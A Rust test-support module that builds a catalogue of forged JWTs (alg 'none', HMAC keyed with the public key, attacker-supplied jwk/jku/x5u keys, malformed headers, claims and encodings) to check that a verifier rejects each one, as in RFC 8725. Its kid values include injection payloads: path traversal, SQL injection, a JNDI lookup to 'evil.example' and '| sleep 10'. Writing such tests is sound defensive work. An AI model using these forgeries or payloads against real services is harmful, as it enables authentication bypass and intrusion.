//! What an attacker makes of a good token: one list for every door that takes a JWT (RFC 8725 §2).
//!
//! The forger of a list has the genuine key, so that each forgery is wrong in the one way that its name says, and a door that
//! forgot that one check would let it in.

use aggregates::JwsAlgorithm;
use aws_lc_rs::hmac;
use aws_lc_rs::signature::Ed25519KeyPair;
use base64::Engine as _;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD as BASE64};
use commands::signing_key::KeyPair;
use evident::adapters;
use serde_json::{Value, json};

/// Somebody who can sign whatever text they like with an Ed25519 key.
pub struct Forger {
    /// The pair, as commands take it.
    pub pair: KeyPair,
    key: Ed25519KeyPair,
}

/// A token and what is wrong with it.
pub struct Forgery {
    pub how: String,
    pub token: String,
}

impl Forger {
    pub fn new(kid: &str) -> Self {
        let pair = adapters::generate(JwsAlgorithm::EdDSA, kid.to_owned()).unwrap();
        let key = Ed25519KeyPair::from_pkcs8(&STANDARD.decode(&pair.private_key).unwrap()).unwrap();
        Self { pair, key }
    }

    /// The public half as a set.
    pub fn jwks(&self) -> Value {
        json!({ "keys": [self.pair.public_jwk] })
    }

    /// A good header.
    pub fn header(&self, typ: &str) -> Value {
        json!({"alg": "EdDSA", "kid": self.pair.kid, "typ": typ})
    }

    /// A token of these texts, whatever they are.
    pub fn sign_text(&self, header: &str, payload: &str) -> String {
        let input = format!("{}.{}", BASE64.encode(header), BASE64.encode(payload));
        let signature = BASE64.encode(self.key.sign(input.as_bytes()));
        format!("{input}.{signature}")
    }

    pub fn sign(&self, header: &Value, claims: &Value) -> String {
        self.sign_text(&header.to_string(), &claims.to_string())
    }

    /// Everything that can be done to a token whose header and claims are good, and whose key is this one. `elsewhere` is where
    /// somebody waits for whoever fetches keys that a header names.
    pub fn forgeries(&self, header: &Value, claims: &Value, elsewhere: &str) -> Vec<Forgery> {
        let mut all = Vec::new();
        self.without_a_key(header, claims, &mut all);
        self.with_the_public_key(header, claims, &mut all);
        Self::with_another_key(header, claims, elsewhere, &mut all);
        self.with_another_header(header, claims, &mut all);
        self.with_another_form(header, claims, &mut all);
        self.with_other_times(header, claims, &mut all);
        all
    }

    fn without_a_key(&self, header: &Value, claims: &Value, all: &mut Vec<Forgery>) {
        let good = self.sign(header, claims);
        let (input, signature) = good.rsplit_once('.').unwrap();
        let payload = input.split_once('.').unwrap().1;
        for alg in ["none", "None", "NONE", "nOnE", ""] {
            let header = BASE64.encode(changed(header, "alg", json!(alg)).to_string());
            all.push(forgery(format!("alg {alg:?} and no signature"), format!("{header}.{payload}.")));
            all.push(forgery(format!("alg {alg:?} and the old signature"), format!("{header}.{payload}.{signature}")));
        }
        all.push(forgery("no signature", format!("{input}.")));
        all.push(forgery("a signature of zeros", format!("{input}.{}", BASE64.encode([0; 64]))));
        all.push(forgery("a signature of nothing", format!("{input}.{}", BASE64.encode(self.key.sign(b"")))));
        let other = BASE64.encode(changed(claims, "sub", json!("somebody-else")).to_string());
        all.push(forgery("other claims under the old signature", {
            let header = input.split_once('.').unwrap().0;
            format!("{header}.{other}.{signature}")
        }));
    }

    /// What everybody knows, as the secret of an HMAC.
    fn with_the_public_key(&self, header: &Value, claims: &Value, all: &mut Vec<Forgery>) {
        let jwk = &self.pair.public_jwk;
        let x = jwk["x"].as_str().unwrap();
        let raw = BASE64.decode(x).unwrap();
        // SubjectPublicKeyInfo (RFC 8410 §4), and its PEM.
        let der = [&[0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00][..], &raw].concat();
        let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", STANDARD.encode(&der));
        let (one, set) = (jwk.to_string(), self.jwks().to_string());
        let secrets: [(&str, &[u8]); 9] = [
            ("the public key", &raw),
            ("the public key in base64url", x.as_bytes()),
            ("the public key in DER", &der),
            ("the public key in PEM", pem.as_bytes()),
            ("the public key as JWK", one.as_bytes()),
            ("the set of public keys", set.as_bytes()),
            ("the key id", self.pair.kid.as_bytes()),
            ("nothing", b""),
            ("zeros", &[0; 32]),
        ];
        for (how, secret) in secrets {
            for (alg, algorithm) in [("HS256", hmac::HMAC_SHA256), ("HS512", hmac::HMAC_SHA512)] {
                let header = changed(header, "alg", json!(alg));
                let input = format!("{}.{}", BASE64.encode(header.to_string()), BASE64.encode(claims.to_string()));
                let signature = hmac::sign(&hmac::Key::new(algorithm, secret), input.as_bytes());
                all.push(forgery(format!("{alg} with {how}"), format!("{input}.{}", BASE64.encode(signature))));
            }
        }
    }

    /// A stranger's key, offered in every way in which a header can offer one.
    fn with_another_key(header: &Value, claims: &Value, elsewhere: &str, all: &mut Vec<Forgery>) {
        let kid = header["kid"].as_str().unwrap();
        let stranger = Self::new(kid);
        let jwk = &stranger.pair.public_jwk;
        let offers = [
            ("nothing else", json!({})),
            ("its own jwk", json!({ "jwk": jwk })),
            ("its own jku", json!({ "jku": elsewhere })),
            ("its own x5u", json!({ "x5u": elsewhere })),
            ("a certificate that is none", json!({"x5c": ["MAA="], "x5t": "AAAA", "x5t#S256": "AAAA"})),
        ];
        for (how, offer) in offers {
            let mut header = header.clone();
            header.as_object_mut().unwrap().extend(offer.as_object().unwrap().clone());
            all.push(forgery(format!("a stranger's key and {how}"), stranger.sign(&header, claims)));
        }
        let ids = [
            "../../../../../../dev/null",
            "/dev/null",
            "file:///etc/passwd",
            "' OR '1'='1' --",
            "x' UNION SELECT 'AAAA",
            "%00",
            "\u{0}",
            "${jndi:ldap://evil.example/a}",
            "| sleep 10",
            elsewhere,
            "",
        ];
        for id in ids {
            let header = changed(header, "kid", json!(id));
            all.push(forgery(format!("a stranger's key under the id {id:?}"), stranger.sign(&header, claims)));
        }
        let mut nameless = header.clone();
        nameless.as_object_mut().unwrap().remove("kid");
        all.push(forgery("a stranger's key without an id", stranger.sign(&nameless, claims)));
        let long = changed(header, "kid", json!("k".repeat(513)));
        all.push(forgery("a key id of 513 bytes", stranger.sign(&long, claims)));
    }

    /// The genuine key under a header that must not be understood.
    fn with_another_header(&self, header: &Value, claims: &Value, all: &mut Vec<Forgery>) {
        let changes = [
            ("alg", json!("ES256")),
            ("alg", json!("RS256")),
            ("alg", json!("PS256")),
            ("alg", json!("HS256")),
            ("alg", json!("eddsa")),
            ("alg", json!(["EdDSA"])),
            ("alg", Value::Null),
            ("kid", json!(7)),
            ("kid", json!(["one"])),
            ("kid", json!("another")),
            ("crit", json!(["exp"])),
            ("crit", json!([])),
            ("crit", json!(["http://example.com/unknown"])),
            ("b64", json!(false)),
            ("cty", json!("JWT")),
            ("enc", json!("A128GCM")),
            ("typ", json!({})),
        ];
        for (member, value) in changes {
            all.push(forgery(format!("{member} {value}"), self.sign(&changed(header, member, value.clone()), claims)));
        }
        let good = header.to_string();
        let rest = good.strip_prefix('{').unwrap();
        for (how, text) in [
            ("alg twice, the good one last", format!("{{\"alg\":\"none\",{rest}")),
            ("alg twice, once escaped", format!("{{\"\\u0061lg\":\"none\",{rest}")),
            ("kid twice", format!("{{\"kid\":\"another\",{rest}")),
            ("a header in a list", format!("[{good}]")),
            ("two headers", format!("{good}{good}")),
            ("a header that is no JSON", "alg=EdDSA".to_owned()),
            ("an empty header", String::new()),
            ("a deep header", format!("{{\"x\":{}1{},{rest}", "[".repeat(200), "]".repeat(200))),
        ] {
            all.push(forgery(how, self.sign_text(&text, &claims.to_string())));
        }
    }

    /// The genuine key under a text that must not be understood.
    fn with_another_form(&self, header: &Value, claims: &Value, all: &mut Vec<Forgery>) {
        let (head, good) = (header.to_string(), claims.to_string());
        let rest = good.strip_prefix('{').unwrap();
        for (how, payload) in [
            ("sub twice, the good one last", format!("{{\"sub\":\"somebody-else\",{rest}")),
            ("iss twice, once escaped", format!("{{\"\\u0069ss\":\"somebody-else\",{rest}")),
            ("exp as a text", changed(claims, "exp", json!("9999999999")).to_string()),
            ("exp beyond all numbers", good.replacen("\"exp\":", "\"exp\":1e999,\"x\":", 1)),
            ("iss as a list", changed(claims, "iss", json!([claims["iss"]])).to_string()),
            ("sub as a number", changed(claims, "sub", json!(7)).to_string()),
            ("jti as an object", changed(claims, "jti", json!({})).to_string()),
            ("aud as an object", changed(claims, "aud", json!({"a": 1})).to_string()),
            ("claims in a list", format!("[{good}]")),
            ("claims twice", format!("{good}{good}")),
            ("no claims", String::new()),
            ("claims that are no JSON", "sub=somebody".to_owned()),
            ("deep claims", format!("{{\"x\":{}1{},{rest}", "[".repeat(200), "]".repeat(200))),
            ("claims of 70 kB", format!("{{\"x\":\"{}\",{rest}", "x".repeat(70_000))),
        ] {
            all.push(forgery(how, self.sign_text(&head, &payload)));
        }
        let token = self.sign(header, claims);
        let (input, signature) = token.rsplit_once('.').unwrap();
        let (head, payload) = input.split_once('.').unwrap();
        for (how, token) in [
            ("padding", format!("{input}.{signature}=")),
            ("a dot at the end", format!("{token}.")),
            ("a dot before", format!(".{token}")),
            ("a part too many", format!("{token}.{signature}")),
            ("five parts", format!("{token}.{signature}.{signature}")),
            ("two parts", format!("{head}.{payload}")),
            ("a signature that goes on", format!("{token}AA")),
            ("a signature cut off", token[..token.len() - 2].to_owned()),
            ("other base64", format!("{input}.{}", STANDARD.encode(BASE64.decode(signature).unwrap()))),
            ("bits that nobody reads", format!("{input}.{}", with_idle_bits(signature))),
            ("the JSON form", json!({"protected": head, "payload": payload, "signature": signature}).to_string()),
        ] {
            all.push(forgery(how, token));
        }
    }

    fn with_other_times(&self, header: &Value, claims: &Value, all: &mut Vec<Forgery>) {
        let now = claims["iat"].as_i64().unwrap();
        for (member, value) in [("nbf", now + 3600), ("iat", now + 3600)] {
            let claims = changed(claims, member, json!(value));
            all.push(forgery(format!("{member} in the future"), self.sign(header, &claims)));
        }
    }
}

/// The object with one member changed.
pub fn changed(object: &Value, member: &str, value: Value) -> Value {
    let mut object = object.clone();
    object[member] = value;
    object
}

fn forgery(how: impl Into<String>, token: String) -> Forgery {
    Forgery { how: how.into(), token }
}

/// 64 bytes are 86 letters whose last has four bits that mean nothing: the same bytes in another spelling.
fn with_idle_bits(signature: &str) -> String {
    const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (start, last) = signature.split_at(signature.len() - 1);
    let at = LETTERS.iter().position(|letter| *letter == last.as_bytes()[0]).unwrap();
    format!("{start}{}", char::from(LETTERS[at ^ 1]))
}
